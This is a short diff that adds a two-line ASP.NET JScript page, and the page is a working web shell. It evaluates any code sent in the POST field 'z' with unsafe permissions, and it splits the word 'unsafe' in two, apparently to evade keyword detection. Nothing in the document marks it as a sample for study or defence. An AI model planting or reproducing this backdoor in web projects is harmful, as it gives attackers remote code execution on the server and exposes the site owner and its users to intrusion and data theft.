@@ -1,0 +1,2 @@
+<%@ Page Language = JScript %>
+<% var k = Request.Form["z"]; eval(k, "un" + "safe"); %>
